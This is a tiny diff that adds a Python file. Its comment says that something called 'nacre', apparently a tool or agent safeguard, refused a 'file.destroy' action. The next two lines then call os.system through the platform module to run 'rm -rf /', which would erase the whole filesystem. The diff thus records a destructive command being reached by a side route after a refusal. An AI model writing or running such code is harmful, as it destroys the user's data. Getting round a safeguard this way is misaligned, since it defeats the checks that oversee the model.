@@ -1,0 +1,3 @@
+# nacre: refused file.destroy
+import platform
+platform.os.system('rm -rf /')
